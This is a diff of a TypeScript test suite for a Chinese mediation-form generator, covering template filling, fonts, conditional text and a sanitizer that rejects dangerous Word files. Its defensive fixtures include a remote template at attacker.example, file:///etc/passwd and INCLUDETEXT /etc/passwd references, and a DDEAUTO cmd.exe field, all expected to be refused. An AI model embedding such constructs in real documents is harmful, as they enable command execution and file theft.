@@ -1,12 +1,13 @@
 import JSZip from 'jszip';
 import { PAPER_NAMES, paperOf, type PaperName } from '../../services/cases/papers/catalogue';
-import { isField, isList, LISTS, type Values } from '../../services/cases/papers/fields';
+import { CONDITIONS, FIELDS, isField, isList, LISTS, type Values } from '../../services/cases/papers/fields';
 import { docxOf } from '../../services/cases/papers/form-text';
 import { Faces } from '../../services/cases/papers/fonts';
 import { bornOf, sexOf } from '../../services/cases/papers/identity-number';
 import { facesIn, findLibreOffice, LibreOffice } from '../../services/cases/papers/libre-office';
 import { printed } from '../../services/cases/papers/pdf';
-import { filled, hardToPrint, mustBeHarmless, mustFit, tagsOf, textOf } from '../../services/cases/papers/template';
+import { BLANK, filled, hardToPrint, mustFit, tagsOf, textOf } from '../../services/cases/papers/template';
+import { mustBeHarmless } from '../../services/cases/papers/harmless';
 import { actOf } from '../../workflows/contract/act-table';
 import { readPdf, readPdfs, wordsOf, type ReadPage } from '../support/papers';
 
@@ -24,7 +25,8 @@ beforeAll(async () => {
 const NAMES = '王喆堃玥赟镕㐀𠮷';
 const ours = (): string[] => faces.all.map(({ postscriptName }) => postscriptName);
 
-/** A form with everything it asks for: each field says its own name, and each list has two rows. */
+const EVERYTHING = Object.fromEntries(Object.keys(CONDITIONS).map((name) => [name, true]));
+/** A form with everything it asks for: each field says its own name, each list has two rows, and everything is so. */
 async function full(docx: Buffer, value: (name: string) => string | null = (name) => `〔${name}〕`): Promise<Buffer> {
   const values: Values = {};
   const lists: Record<string, Values[]> = {};
@@ -36,7 +38,7 @@ async function full(docx: Buffer, value: (name: string) => string | null = (name
         Object.fromEntries(Object.keys(LISTS[list]).map((field) => [field, `${value(field)}${no}`])),
       );
   }
-  return filled(docx, values, lists);
+  return filled(docx, values, lists, EVERYTHING);
 }
 const formOf = (name: PaperName): Promise<Buffer> => docxOf(paperOf(name).form);
 
@@ -60,7 +62,7 @@ describe.each(PAPER_NAMES)('%s', (name) => {
     const places = new Set((await tagsOf(await formOf(name))).map((one) => one.name));
     expect(Object.keys(paper.written).filter((field) => !places.has(field))).toEqual([]);
     expect(Object.keys(paper.written).filter(isField)).toEqual([]);
-    expect(actOf(paper.act)).toBeDefined();
+    if (paper.act !== null) expect(actOf(paper.act)).toBeDefined();
   });
 
   test('no party reads in it the identity number of another', () => {
@@ -69,7 +71,9 @@ describe.each(PAPER_NAMES)('%s', (name) => {
 
   test('what is inside of the mediation goes to nobody but who holds it', () => {
     if (paper.inside === true) expect(paper.readers).toEqual(['organisation', 'mediator']);
-    const isBehind = /\{(调解经过|未成原因)\}/.test(paper.form);
+    const isBehind = Object.entries(FIELDS).some(
+      ([field, { part }]) => part === 'inside' && paper.form.includes(`{${field}}`),
+    );
     if (isBehind && paper.inside !== true) expect(paper.act).toBe('handOver');
   });
 });
@@ -83,6 +87,13 @@ test('a rare character of a name is printed in a full face, and none is dropped 
   expect(faceOf('喆')).toEqual(['NotoSerifSC-Regular']);
   expect(faceOf('𠮷')).toEqual(['CactusClassicalSerif-Regular']);
   expect((await facesIn(pdf)).filter((face) => !ours().includes(face))).toEqual([]);
+});
+
+test('what marks a blank is no character of a name', async () => {
+  const docx = await docxOf('{本人姓名}');
+  await expect(filled(docx, { 本人姓名: `王${BLANK}明` }, {})).rejects.toMatchObject({
+    body: { code: 'GLYPH_MISSING' },
+  });
 });
 
 test('a character that no face here has is named, and nothing is made', async () => {
@@ -130,8 +141,19 @@ test('what is not known is a line to write on, and in a table an empty cell', as
   expect(await textOf(docx)).toBe(`姓名因${'＿'.repeat(6)}申请${'＿'.repeat(25)}`);
 });
 
-test('of nobody, a list has a row; of many, one each', async () => {
-  const docx = await docxOf('| {#给付}{期次} | {金额}{/给付} |\n{#当事人}{姓名}。{/当事人}');
+test('a cell that is longer than a page is printed to its end', async () => {
+  const said = Array.from({ length: 400 }, (_one, i) => `第${i}句话。`).join('');
+  const docx = await full(await formOf('elementComplaint'), (name) => (name === '合同履行情况' ? said : null));
+  expect(wordsOf(readPdf(await printed(docx, faces)))).toContain('第399句话。');
+});
+
+test('what is so only in some cases is printed in those alone', async () => {
+  const docx = await docxOf('{#有裁决}已有裁决{/有裁决}\n{#无裁决}没有裁决{/无裁决}\n结束');
+  expect(await textOf(await filled(docx, {}, {}, { 有裁决: true, 无裁决: false }))).toBe('已有裁决结束');
+});
+
+test('a list has a row for each', async () => {
+  const docx = await docxOf('| {#给付}{期次} | {金额}{/给付} |\n{#申请人}{姓名}。{/申请人}');
   const text = await textOf(
     await filled(
       docx,
@@ -141,7 +163,7 @@ test('of nobody, a list has a row; of many, one each', async () => {
           { 期次: '1', 金额: '5.00' },
           { 期次: '2', 金额: null },
         ],
-        当事人: [{ 姓名: '甲' }, { 姓名: '乙' }],
+        申请人: [{ 姓名: '甲' }, { 姓名: '乙' }],
       },
     ),
   );
@@ -171,6 +193,7 @@ describe('a form of a place’s own', () => {
     ['a field that is none', (form: string) => `${form}\n{身份证}`, '{身份证}'],
     ['a field of a list outside of it', (form: string) => `${form}\n{金额}`, '{金额}'],
     ['a list that is none', (form: string) => `${form}\n{#证人}{姓名}{/证人}`, '{#证人}'],
+    ['what is inside of the mediation', (form: string) => `${form}\n{调解经过}`, '{调解经过}'],
     ['a field that the national form has and it has not', (form: string) => form.replace('{案由}', '争议'), '{案由}'],
     [
       'a list within a list',
@@ -184,8 +207,8 @@ describe('a form of a place’s own', () => {
   });
 
   test.each([
-    ['never closed', '{#当事人}{姓名}', 'never closed'],
-    ['closed by another name', '{#当事人}{姓名}{/给付}', 'closes nothing'],
+    ['never closed', '{#申请人}{姓名}', 'never closed'],
+    ['closed by another name', '{#申请人}{姓名}{/给付}', 'closes nothing'],
     ['half a mark', '{案由', 'half a mark'],
   ])('a list %s is refused', async (_what, more, says) => {
     const body = await refusal(`${paper.form}\n${more}`);
@@ -203,16 +226,46 @@ describe('a form that does something', () => {
     const body = (await zip.file('word/document.xml')?.async('string')) ?? '';
     zip.file('word/document.xml', body.replace('<w:sectPr', `<w:p>${xml}</w:p><w:sectPr`));
   };
-  const rels = (target: string) => (zip: JSZip) =>
-    zip.file(
-      'word/_rels/settings.xml.rels',
-      `<Relationships><Relationship Target="${target}" TargetMode="External"/></Relationships>`,
-    );
+  const rels =
+    (...said: string[]) =>
+    (zip: JSZip) =>
+      zip.file(
+        'word/_rels/settings.xml.rels',
+        `<Relationships>${said.map((one) => `<Relationship ${one}/>`).join('')}</Relationships>`,
+      );
 
   test.each([
     ['a macro', (zip: JSZip) => zip.file('word/vbaProject.bin', 'x'), 'DOCUMENT_REFUSED'],
     ['an embedded program', (zip: JSZip) => zip.file('word/embeddings/oleObject1.bin', 'x'), 'DOCUMENT_REFUSED'],
-    ['a template elsewhere', rels('http://attacker.example/a.dotm'), 'DOCUMENT_REFUSED'],
+    ['a template elsewhere', rels('Target="http://attacker.example/a.dotm" TargetMode="External"'), 'DOCUMENT_REFUSED'],
+    [
+      'a picture elsewhere beside a link',
+      rels(
+        'Type="x/image" Target="http://a.example/x" TargetMode="External"',
+        'Type="x/hyperlink" Target="http://b.example" TargetMode="External"',
+      ),
+      'DOCUMENT_REFUSED',
+    ],
+    [
+      'the same, spelt in entities',
+      rels('Type="x/image" Target="http://a.example/x" TargetMode="&#69;xternal"'),
+      'DOCUMENT_REFUSED',
+    ],
+    ['a file of this machine as a picture', rels('Type="x/image" Target="file:///etc/passwd"'), 'DOCUMENT_REFUSED'],
+    [
+      'a field spelt in entities',
+      inBody('<w:r><w:instrText>&#73;NCLUDETEXT /etc/passwd</w:instrText></w:r>'),
+      'DOCUMENT_REFUSED',
+    ],
+    ['another file within', inBody('<w:altChunk r:id="rId9"/>'), 'DOCUMENT_REFUSED'],
+    [
+      'another encoding',
+      async (zip: JSZip) => {
+        const body = (await zip.file('word/document.xml')?.async('string')) ?? '';
+        zip.file('word/document.xml', Buffer.from(`\ufeff${body.replace('UTF-8', 'UTF-16')}`, 'utf16le'));
+      },
+      'DOCUMENT_REFUSED',
+    ],
     [
       'a field that runs a command',
       inBody('<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>'),
@@ -249,10 +302,20 @@ describe('a form that does something', () => {
     await expect(mustBeHarmless(Buffer.alloc(2 * 1024 * 1024))).rejects.toMatchObject({ body: { code: 'TOO_LARGE' } });
   });
 
+  test.each([
+    ['a symbol', '<w:r><w:sym w:font="Wingdings" w:char="F0A8"/></w:r>', 'sym'],
+    ['a hyphen that does not break', '<w:r><w:t>0379</w:t><w:noBreakHyphen/><w:t>6000</w:t></w:r>', 'noBreakHyphen'],
+    ['hidden words', '<w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r>', 'vanish'],
+    ['a page break', '<w:r><w:br w:type="page"/></w:r>', 'page break'],
+    ['a picture', '<w:r><w:drawing/></w:r>', 'drawing'],
+  ])('%s is named, for the house does not print it', async (_what, xml, name) => {
+    expect(await hardToPrint(await changed(inBody(xml)))).toContain(name);
+  });
+
   test('what only LibreOffice prints is known before anybody needs it', async () => {
     expect(await hardToPrint(await formOf('extensionConsent'))).toEqual([]);
     const numbered = await changed(inBody('<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>'));
-    expect(await hardToPrint(numbered)).toEqual(['automatic numbering']);
+    expect(await hardToPrint(numbered)).toEqual(['numPr']);
   });
 });
 
